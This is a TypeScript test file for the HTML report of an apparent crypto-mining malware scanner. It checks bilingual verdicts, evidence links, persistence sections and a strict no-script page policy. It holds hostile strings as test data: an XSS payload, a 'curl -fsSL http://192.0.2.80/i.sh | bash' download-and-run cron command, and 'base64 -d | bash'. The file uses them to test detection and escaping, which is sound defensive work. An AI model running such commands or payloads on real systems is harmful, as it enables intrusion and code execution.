import { describe, expect, test } from 'bun:test';
import { createHash } from 'node:crypto';
import type { ScanResult } from '../model/result.ts';
import { renderHtml } from './html.ts';
import {
  cleanResult,
  hostileResult,
  inconclusiveResult,
  miningResult,
  miningResultChinese,
  suspiciousResult,
} from './result.fixture.ts';
import { findingRow, processRow } from './rows.fixture.ts';
import { hostileStory, lateResult, provenResult } from './story.fixture.ts';

const english = (result: ScanResult): string => renderHtml(result, { language: 'en' });
const chinese = (result: ScanResult): string => renderHtml(result, { language: 'zh-CN' });

const attack = `</script></svg><img src=x onerror="alert(1)">'&\n\x1b[2J\u202egpj.exe`;
/** Every text of how it got in is an attack too. */
const hostileTold: ScanResult = { ...hostileResult, ...hostileStory(attack) };

/** Names and attribute names of all elements, as a parser of HTML sees them. */
async function elementsOf(page: string): Promise<readonly { tag: string; attributes: readonly string[] }[]> {
  const elements: { tag: string; attributes: readonly string[] }[] = [];
  const rewriter = new HTMLRewriter().on('*', {
    element(element) {
      elements.push({
        tag: element.tagName,
        attributes: [...element.attributes].map(([name]) => name ?? ''),
      });
    },
  });
  await rewriter.transform(new Response(page)).text();
  return elements;
}

/** The text of a page without its markup. */
function textOf(page: string): string {
  return page.replace(/<style>[\s\S]*?<\/style>/, '').replace(/<[^>]*>/g, ' ');
}

function anchors(page: string): { readonly ids: readonly string[]; readonly links: readonly string[] } {
  return {
    ids: [...page.matchAll(/ id="([^"]*)"/g)].map((match) => match[1] ?? ''),
    links: [...page.matchAll(/ href="#([^"]*)"/g)].map((match) => match[1] ?? ''),
  };
}

test('a source that was read and cannot be relied on stands in a list of its own', () => {
  const listed = [
    { source: '/var/log/journal/x/system.journal', reason: 'parts that are not what was written: 1' },
  ];
  const doubted: ScanResult = {
    ...cleanResult,
    sources: [{ artifact: 'linux.log.journal', status: 'ok', count: 3, bytes: 9, listed }],
  };
  expect(textOf(english(doubted))).toContain('1 source that was read and cannot be relied on');
  expect(textOf(chinese(doubted))).toContain('1 个已读取但内容不可尽信的来源');
  for (const page of [english(doubted), chinese(doubted)])
    expect(page).toContain('/var/log/journal/x/system.journal');
  expect(english(cleanResult)).not.toContain('cannot be relied on');
});

describe('first screen', () => {
  test('says verdict, since when, which host, and what to do next, before anything else', () => {
    const [first = ''] = english(miningResult).split('<nav');
    const text = textOf(first);
    for (const part of [
      'Mining',
      'web-03',
      '2026-11-21 03:12 UTC',
      '2 d 16 h before this scan',
      'Take this machine off the network',
    ]) {
      expect(text).toContain(part);
    }
    expect(first.match(/<p>/g)?.length).toBe(2);
  });

  test('says the same in Chinese', () => {
    const page = chinese(miningResultChinese);
    expect(page).toContain('<html lang="zh-CN">');
    const text = textOf(page.split('<nav')[0] ?? '');
    for (const part of ['正在挖矿', '开始于', '距本次扫描 2 天 16 小时', '不要关机或重启']) {
      expect(text).toContain(part);
    }
  });

  test('every answer has its own words', () => {
    expect(chinese(cleanResult)).toContain('<span>未发现挖矿</span>');
    expect(chinese(suspiciousResult)).toContain('<span>可疑</span>');
    expect(chinese(inconclusiveResult)).toContain('<span>无法下结论</span>');
    expect(chinese({ ...miningResult, state: 'traces' })).toContain('<span>仅有挖矿痕迹</span>');
  });
});

describe('proof', () => {
  test('every link leads somewhere on the page, and every anchor is unique', () => {
    for (const result of [
      miningResult,
      suspiciousResult,
      cleanResult,
      inconclusiveResult,
      hostileResult,
      provenResult,
      lateResult,
      hostileTold,
    ]) {
      const { ids, links } = anchors(english(result));
      expect(new Set(ids).size).toBe(ids.length);
      expect(links.filter((link) => !ids.includes(link))).toEqual([]);
    }
  });

  test('each finding leads to each of its lines, and each line back to its finding', () => {
    const page = english(miningResult);
    for (const finding of miningResult.findings) {
      for (const index of finding.evidence.keys()) {
        const id = `${finding.id}-e${index + 1}`;
        expect(page).toContain(`<a href="#${id}">${id}</a>`);
        expect(page).toMatch(new RegExp(`<tr id="${id}"><td class="tight"><a href="#${finding.id}" `));
      }
    }
  });

  test('what a card claims leads to the lines that show it', () => {
    const [, card = ''] = english(miningResult).split('<article class="card"');
    const claim = (label: string): string => card.split(`<dt>${label}</dt>`)[1]?.split('</dd>')[0] ?? '';
    expect(claim('Wallet')).toContain('#F2-e1');
    expect(claim('Pool')).toContain('#F2-e2');
    expect(claim('Algorithm')).toContain('#F1-e1');
    expect(claim('Executable')).toContain('#F5-e1');
  });

  test('a miner leads to the entries that bring it back, and each of those back to it', () => {
    const [card = ''] = /<article class="card"[\s\S]*?<\/article>/.exec(english(miningResult)) ?? [];
    const listed = miningResult.miners[0]?.persistence ?? [];
    expect(listed.length).toBeGreaterThan(0);
    for (const { entry } of listed) {
      expect(card).toContain(`href="#${entry}"`);
      const [row = ''] =
        new RegExp(`<article class="finding" id="${entry}">[\\s\\S]*?</article>`).exec(
          english(miningResult),
        ) ?? [];
      expect(row).toContain('href="#miner-1"');
    }
    expect(textOf(card)).toContain('starts its program · of its parent 4702 sh');
    expect(textOf(chinese(miningResultChinese))).toContain('持久化项');
  });

  test('a finding of an entry leads to its row, and the row to the lines of the finding', () => {
    const [entry] = miningResult.persistence;
    const [finding] = miningResult.findings;
    if (entry === undefined || finding === undefined) throw new Error('no entry');
    const evidence = [{ source: entry.source, line: entry.line, text: entry.text }];
    const told = { ...finding, rule: 'persistence.malicious', path: entry.source, evidence };
    const other = { ...told, id: 'F2', evidence: [{ ...evidence[0], source: '/etc/other', text: '' }] };
    const page = english({ ...miningResult, findings: [told, other] });
    const article = (id: string): string =>
      page.split(`<article class="finding" id="${id}">`)[1]?.split('</article>')[0] ?? '';
    expect(article('F1')).toContain(`href="#${entry.id}"`);
    expect(article(entry.id)).toContain('href="#F1"');
    expect(article('F2')).not.toContain(`href="#${entry.id}"`);
    expect(article(entry.id)).not.toContain('href="#F2"');
  });

  test('reasons lead to their findings, and only to those that exist', () => {
    const page = english({ ...miningResult, why: ['Proven (F1), but not F99.'] });
    expect(page).toContain('(</bdi><a href="#F1">F1</a><bdi>)');
    expect(page).not.toContain('#F99');
  });

  test('a reason that names no finding leads to those of the process it speaks of', () => {
    const page = english({
      ...miningResult,
      why: ['kswapd0 (pid 4711) mines.', 'Nothing known about pid 4712.', '4711 lines were read.'],
    });
    const [list = ''] = (page.split('<ul class="why">')[1] ?? '').split('</ul>');
    const [first = '', second = '', third = ''] = list.split('</li>');
    expect(first).toContain('<a href="#F1">F1</a>');
    expect(second).not.toContain('href');
    // A count is no process, whoever has its number.
    expect(third).not.toContain('href');
    const counted = chinese({ ...miningResult, why: ['关于 PID 4711，4711 个来源一致。', '共 4711 项。'] });
    expect([...counted.matchAll(/<ul class="why"><li>.*href="#F1"/g)]).toHaveLength(1);
  });

  test('a reason that speaks of the host leads to the findings of no process', () => {
    const [one, two] = miningResult.findings.map(({ pid: _, ...finding }) => ({
      ...finding,
      severity: 'high' as const,
    }));
    if (one === undefined || two === undefined) throw new Error('no findings');
    const why = ['2 findings about the host itself need to be explained.', 'CPU was watched for 30 s.'];
    const page = english({
      ...miningResult,
      why,
      findings: [one, two, { ...two, id: 'F3', severity: 'low' }],
    });
    const [about = '', other = ''] = (page.split('<ul class="why">')[1] ?? '').split('</li>');
    expect([...about.matchAll(/href="#(F\d+)"/g)].map(([, id]) => id)).toEqual(['F1', 'F2']);
    expect(other).not.toContain('href');
  });

  test('what was not checked is on the page with its reason', () => {
    const text = textOf(english(inconclusiveResult));
    expect(text).toContain('EACCES: needs root on the host');
    expect(text).toContain('/proc/20311/stat');
  });
});

describe('what starts by itself', () => {
  const sectionOf = (page: string): string =>
    /<section id="persistence"[\s\S]*?<\/section>/.exec(page)?.[0] ?? '';

  test('each entry that is of concern has its place, trigger, command, layers, target and reasons', () => {
    const text = textOf(sectionOf(english(miningResult)));
    for (const part of [
      'malicious',
      'crontabs/www-data:3',
      '*/5 * * * *',
      'base64 -d | bash',
      'curl -fsSL http://192.0.2.80/i.sh | bash',
      'What is run is written in code (1 layer was undone).',
      '/usr/lib/dbus-update belongs to no package',
      'ExecStart=/usr/lib/dbus-update',
      'does not run as things stand',
    ]) {
      expect(text).toContain(part);
    }
    const texts = textOf(sectionOf(chinese(miningResult)));
    for (const part of ['恶意', '用户 crontab', '从网络下载内容并立即执行', '解码后', '触发时机', '开机'])
      expect(texts).toContain(part);
  });

  test('unusual entries are folded, benign ones counted by mechanism', () => {
    const section = sectionOf(english(miningResult));
    expect(section).toMatch(/<details><summary>1 unusual entry[\s\S]*?\/etc\/rc\.local:12/);
    const [, folded = ''] = section.split('5 benign entries by mechanism');
    expect(textOf(folded)).toMatch(/systemd service\s+4/);
    expect(folded).toContain('/etc/cron.d/e2scrub_all:1');
    expect(sectionOf(english(cleanResult))).toBe('');
  });

  test('a host with very many entries keeps the page small, and what is left out is told', () => {
    const [grave] = miningResult.persistence;
    const benign = miningResult.persistence.at(-1);
    if (grave === undefined || benign === undefined) throw new Error('no entries');
    const persistence = [
      ...Array.from({ length: 400 }, () => grave),
      ...Array.from({ length: 600 }, () => benign),
    ];
    const page = english({ ...miningResult, persistence });
    expect(page).toContain('100 more in result.json');
    expect(page.match(/<article class="finding" id="P/g)?.length).toBe(300);
    expect(page.match(/e2scrub_all:1/g)?.length).toBe(500);
  });
});

describe('a page that does nothing', () => {
  test('allows only its own style sheet, by hash', () => {
    const page = english(miningResult);
    const style = /<style>([\s\S]*?)<\/style>/.exec(page)?.[1] ?? '';
    const hash = createHash('sha256').update(style).digest('base64');
    const policy = /Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1] ?? '';
    expect(policy.split('; ')).toEqual([
      "default-src 'none'",
      `style-src 'sha256-${hash}'`,
      'img-src data:',
      "base-uri 'none'",
      "form-action 'none'",
    ]);
  });

  test('holds no script, no handler, no inline style, and nothing to load, also from a hostile host', async () => {
    const allowed = new Set(
      'html head meta title style body header main footer section nav h1 h2 h3 p b small span a bdi code dl div dt dd svg path rect circle text tspan desc figure figcaption i h4 ol ul li details summary article table thead tbody tr th td br'.split(
        ' ',
      ),
    );
    for (const result of [miningResult, hostileResult, hostileTold]) {
      const page = english(result);
      const elements = await elementsOf(page);
      expect([...new Set(elements.map(({ tag }) => tag))].filter((tag) => !allowed.has(tag))).toEqual([]);
      const names = new Set(elements.flatMap(({ attributes }) => attributes));
      expect([...names].filter((name) => /^(on|style$|src)/.test(name))).toEqual([]);
      expect([...page.matchAll(/href="([^"]*)"/g)].every((match) => match[1]?.startsWith('#'))).toBe(true);
      expect(/url\(|@import/.test(page)).toBe(false);
    }
  });

  test('shows what a hostile host wrote, without acting on it', () => {
    const page = english(hostileResult);
    expect(page).toContain('&lt;/script&gt;&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
    expect(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u200b]/.test(page)).toBe(false);
    expect(page).not.toContain('A'.repeat(2100));
  });
});

describe('a page that opens', () => {
  test('bounds its rows, and says what it left out', () => {
    const many = Array.from({ length: 3500 }, (_, index) =>
      processRow({ pid: 10_000 + index, ppid: 13_499 - index }),
    );
    const page = english({ ...cleanResult, processes: many });
    expect(page.match(/<tr id="p\d+"/g)?.length).toBe(3000);
    expect(page).toContain('500 more in result.json');
    const { ids, links } = anchors(page);
    const known = new Set(ids);
    expect(links.filter((link) => !known.has(link))).toEqual([]);
  });

  test('bounds the lines of one finding', () => {
    const evidence = Array.from({ length: 900 }, (_, index) => ({
      source: '/proc/net/tcp',
      line: index + 1,
      text: 'x',
    }));
    const claim = { title: 't', explanation: 'e' };
    const page = english({
      ...cleanResult,
      findings: [findingRow('F1', claim, claim, { rule: 'a.b', evidence })],
    });
    expect(page.match(/<tr id="F1-e/g)?.length).toBe(200);
    expect(page).toContain('700 more lines in result.json');
    expect(page).toContain('897 more lines');
  });
});
